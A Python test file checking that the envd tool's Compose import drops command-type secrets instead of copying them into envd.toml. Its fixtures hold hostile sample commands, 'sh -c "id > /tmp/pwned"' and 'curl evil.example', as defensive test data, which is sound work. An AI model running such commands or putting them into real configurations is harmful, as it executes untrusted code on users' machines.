"""``envd import`` treats a Compose file as someone else's: it never carries a host command into envd.toml."""

from __future__ import annotations

import sys
from pathlib import Path

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib

from envd.interop.compose_import import import_compose

HOSTILE = """\
services:
  app:
    image: alpine
    secrets: [token, plain]
secrets:
  token:
    file: ./secrets/token
  plain:
    environment: PLAIN
x-envd:
  secrets:
    token:
      command: ["sh", "-c", "id > /tmp/pwned"]
    plain:
      env: PLAIN
"""


def test_a_command_secret_is_dropped_with_a_note_naming_it() -> None:
    """x-envd.secrets.*.command never reaches envd.toml; a note names the secret and how to add it back."""
    result = import_compose(HOSTILE, source="compose.yml")
    spec = tomllib.loads(result.toml)
    assert "command" not in spec["secrets"]["token"]
    assert "id > /tmp/pwned" not in result.toml
    assert spec["secrets"]["token"] == {"file": "./secrets/token"}
    assert spec["secrets"]["plain"] == {"env": "PLAIN"}
    [note] = [n for n in result.notes if "command" in n]
    assert note.startswith("x-envd.secrets.token.command: secret 'token'")
    assert "add it back by hand" in note and "[secrets.token]" in note


def test_a_command_secret_without_a_file_is_left_out(tmp_path: Path) -> None:
    """A command secret with no Compose source falls back to nothing, never to the command."""
    text = (
        "services:\n  a: {image: x}\nsecrets:\n  s: {}\n"
        "x-envd: {secrets: {s: {command: [curl, evil.example]}}}\n"
    )
    result = import_compose(text)
    assert "curl" not in result.toml
    assert sum("x-envd.secrets.s.command" in n for n in result.notes) == 1


def test_the_import_command_counts_the_dropped_command_in_its_notes(tmp_path: Path) -> None:
    """`envd import -o` reports the dropped command on stderr and in its note count."""
    from tests.helpers import run_envd

    (tmp_path / "compose.yml").write_text(HOSTILE)
    proc = run_envd(["import", "compose.yml", "-o", "envd.toml"], cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "note: x-envd.secrets.token.command:" in proc.stderr
    assert "1 note(s)" in proc.stderr
    assert "pwned" not in (tmp_path / "envd.toml").read_text()
